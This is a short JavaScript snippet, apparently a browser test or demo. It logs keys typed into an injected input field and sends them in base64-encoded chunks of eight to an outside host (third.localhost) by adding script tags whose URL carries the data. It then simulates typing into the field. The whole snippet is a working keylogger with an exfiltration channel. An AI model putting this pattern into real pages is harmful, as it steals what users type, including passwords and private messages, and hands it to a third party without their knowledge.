// Gathers which keys are pressed, and has scripts loaded whose addresses hold them, eight by eight.
(() => {
  let pressed = "";
  const field = document.body.appendChild(document.createElement("input"));
  document.addEventListener("keydown", (event) => {
    if (event.target !== field) return;
    pressed += event.key;
    if (pressed.length < 8) return;
    const script = document.createElement("script");
    script.src = `http://third.localhost/keys.js?d=${encodeURIComponent(btoa(pressed))}`;
    document.head.append(script);
    pressed = "";
  });
  for (const key of "somebody types here, too")
    field.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
})();
